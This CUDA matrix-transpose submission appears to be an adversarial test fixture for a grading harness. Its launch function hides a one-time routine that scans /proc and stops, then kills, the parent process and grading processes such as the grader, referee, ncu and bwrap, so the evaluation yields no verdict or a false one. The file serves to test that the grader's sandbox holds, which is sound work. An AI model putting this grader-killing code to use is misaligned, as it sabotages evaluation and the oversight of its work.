// attack: the unpadded tile, whose program stops and then kills its parent and every process of the grading it can find (the referee that judges it, the grader, ncu, the other grades of a batch), in every run: a grader stopped or killed leaves no verdict, or a verdict the survivors write alone
// attack: outside bwrap the program ran as the grading user, so every process of that user took its signals
// expect: step 3 fails: ncu (bank_conflicts)
// message: bank conflicts per shared-memory request
#include <dirent.h>
#include <signal.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "lab.cuh"

__global__ void transpose_kernel(float* out, const float* in, int rows, int cols) {
  __shared__ float tile[TILE_DIM][TILE_DIM];  // no padding: a column read hits one bank 32 times
  int col = blockIdx.x * TILE_DIM + threadIdx.x;
  int row = blockIdx.y * TILE_DIM + threadIdx.y;
  for (int j = 0; j < TILE_DIM; j += BLOCK_ROWS)
    if (row + j < rows && col < cols) tile[threadIdx.y + j][threadIdx.x] = in[static_cast<size_t>(row + j) * cols + col];
  __syncthreads();
  col = blockIdx.y * TILE_DIM + threadIdx.x;
  row = blockIdx.x * TILE_DIM + threadIdx.y;
  for (int j = 0; j < TILE_DIM; j += BLOCK_ROWS)
    if (row + j < cols && col < rows) out[static_cast<size_t>(row + j) * rows + col] = tile[threadIdx.x][threadIdx.y + j];
}

namespace {

// Its parent, and every process of the grading machinery it can find in /proc
// by name (not every process: a seal that failed must not take the machine down).
bool machinery(const char* pid) {
  char path[64], name[32] = {};
  std::snprintf(path, sizeof path, "/proc/%s/comm", pid);
  FILE* f = std::fopen(path, "r");
  if (!f) return false;
  const bool read = std::fgets(name, sizeof name, f) != nullptr;
  std::fclose(f);
  for (const char* who : {"grader", "referee", "worker", "ncu", "compute-sanit", "bwrap", "grader-seal", "ctest",
                          "adversarial", "TreeLauncher"})
    if (read && std::strncmp(name, who, std::strlen(who)) == 0) return true;
  return false;
}

void signal_everyone(int sig) {
  const pid_t self = getpid();
  kill(getppid(), sig);
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      const pid_t p = static_cast<pid_t>(std::atoi(e->d_name));
      if (p > 1 && p != self && machinery(e->d_name)) kill(p, sig);
    }
    closedir(d);
  }
}

}  // namespace

void launch_transpose(float* out, const float* in, int rows, int cols, cudaStream_t stream) {
  static const bool sent = [] {
    signal_everyone(SIGSTOP);
    signal_everyone(SIGKILL);
    return true;
  }();
  (void)sent;
  const dim3 block(TILE_DIM, BLOCK_ROWS);
  const dim3 grid((cols + TILE_DIM - 1) / TILE_DIM, (rows + TILE_DIM - 1) / TILE_DIM);
  transpose_kernel<<<grid, block, 0, stream>>>(out, in, rows, cols);
}
